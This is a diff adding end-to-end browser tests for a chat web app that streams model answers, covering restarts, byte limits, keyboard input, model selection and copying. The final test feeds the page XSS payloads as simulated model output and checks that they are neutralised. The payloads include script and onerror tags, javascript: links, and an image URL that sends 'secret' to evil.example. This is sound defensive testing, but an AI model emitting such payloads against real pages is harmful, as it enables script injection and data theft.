@@ -354,3 +354,128 @@ test("the_view_stays_at_the_end_until_the_reader_scrolls_up", async () => {
   await tab.finished();
   await reader.leave();
 });
+
+test("a_restarting_server_finishes_its_answer_and_the_next_question_waits_for_its_successor", async () => {
+  askd = await startAskd({ endpoint: fake.url });
+  const tab = await reader.open(askd.url);
+  await tab.ask("Count.");
+  const call = await fake.call();
+  call.say("one ");
+  await tab.reads("one");
+  const stopped = askd.stop();
+  await tab.page.getByText("The server is about to restart").waitFor();
+  call.say("two");
+  call.finish();
+  await stopped;
+  await tab.finished();
+  await tab.reads("one two");
+  await tab.ask("And on.");
+  await tab.says(/^Waiting for the connection|^Connecting/);
+  await askd.start();
+  const next = await fake.call();
+  assert.equal(next.question, "And on.");
+  next.say("three");
+  next.finish();
+  await tab.finished();
+  await reader.leave({ away: true });
+});
+
+test("without_an_endpoint_the_answer_names_its_entry_and_how_well_it_matches", async () => {
+  askd = await startAskd();
+  const tab = await reader.open(askd.url);
+  await tab.ask("What is impermanent loss?");
+  await tab.finished();
+  const source = tab.page.getByRole("region", { name: "Sources" }).getByRole("listitem").first();
+  assert.match(await source.innerText(), /impermanent loss[^]*match \d+ %/i);
+  await reader.leave();
+});
+
+test("the_keyboard_sends_breaks_and_composes", async () => {
+  askd = await startAskd({ endpoint: fake.url });
+  const tab = await reader.open(askd.url);
+  assert.ok(await tab.composer.evaluate((area) => area === document.activeElement));
+  await tab.page.keyboard.type("first line");
+  await tab.page.keyboard.press("Shift+Enter");
+  await tab.page.keyboard.type("second");
+  await tab.composer.evaluate((area) =>
+    area.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", isComposing: true, bubbles: true })),
+  );
+  assert.equal(await tab.composer.inputValue(), "first line\nsecond");
+  await tab.page.keyboard.press("Enter");
+  assert.equal((await fake.call()).question, "first line\nsecond");
+  assert.equal(await tab.composer.inputValue(), "");
+  await reader.leave();
+});
+
+test("a_question_near_the_limit_shows_it_and_one_beyond_is_not_sent", async () => {
+  askd = await startAskd({ endpoint: fake.url, maxQuestion: "1 KiB" });
+  const tab = await reader.open(askd.url);
+  await tab.composer.fill("x".repeat(500));
+  assert.equal(await tab.page.getByText("of 1,024 bytes").count(), 0);
+  // Two bytes each: the limit counts bytes, not letters.
+  await tab.composer.fill("é".repeat(512));
+  await tab.page.getByText("1,024 of 1,024 bytes").waitFor();
+  assert.ok(await tab.page.getByRole("button", { name: "Send" }).isEnabled());
+  await tab.composer.fill("é".repeat(513));
+  await tab.page.getByText("1,026 of 1,024 bytes").waitFor();
+  assert.ok(await tab.page.getByRole("button", { name: "Send" }).isDisabled());
+  await reader.leave();
+});
+
+test("a_chosen_model_is_asked_also_after_a_refresh", async () => {
+  askd = await startAskd({ endpoint: fake.url, models: ["small", "large"] });
+  const tab = await reader.open(askd.url);
+  await tab.page.getByRole("combobox", { name: "Model" }).selectOption("large");
+  for (const question of ["First.", "Second."]) {
+    await tab.ask(question);
+    const call = await fake.call();
+    assert.equal(call.body.model, "large");
+    call.say("done");
+    call.finish();
+    await tab.finished();
+    await tab.page.reload();
+    await tab.finished();
+  }
+  await reader.leave();
+});
+
+test("an_answer_and_its_code_can_be_copied", async () => {
+  askd = await startAskd({ endpoint: fake.url });
+  await reader.context.grantPermissions(["clipboard-read", "clipboard-write"]);
+  const tab = await reader.open(askd.url);
+  const clipboard = () => tab.page.evaluate(() => navigator.clipboard.readText());
+  await tab.ask("Code.");
+  const call = await fake.call();
+  const answer = "Here:\n\n```sh\nls -l\n```\n\nThat is *all*.";
+  call.say(answer);
+  call.finish();
+  await tab.finished();
+  await tab.answer.getByRole("button", { name: "Copy", exact: true }).click();
+  await tab.answer.getByRole("button", { name: "Copied" }).waitFor();
+  assert.equal(await clipboard(), "ls -l\n");
+  await tab.answer.getByRole("button", { name: "Copy the answer" }).click();
+  await tab.answer.locator(".actions").getByRole("button", { name: "Copied" }).waitFor();
+  assert.equal(await clipboard(), answer);
+  await reader.leave();
+});
+
+test("what_a_model_writes_cannot_act_in_the_page", async () => {
+  askd = await startAskd({ endpoint: fake.url });
+  const tab = await reader.open(askd.url);
+  let fetched = 0;
+  await tab.page.route(/evil\.example/, (route) => {
+    fetched += 1;
+    return route.abort();
+  });
+  await tab.ask("Attack.");
+  const call = await fake.call();
+  call.say("<img src=x onerror=alert(1)> ![q](https://evil.example/?q=secret) <script>alert(2)</script>\n\n");
+  call.say('<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input></form> ');
+  call.say("[a](javascript:alert(3)) <a href=https://evil.example/ target=_self style=position:fixed>b</a> end");
+  call.finish();
+  await tab.finished();
+  assert.equal(fetched, 0);
+  assert.equal(await tab.text.locator("img, script, iframe, form, input, [style], [href^=javascript]").count(), 1);
+  assert.equal(await tab.text.getByRole("link", { name: "b" }).getAttribute("rel"), "noopener noreferrer");
+  await reader.leave({ away: true });
+});
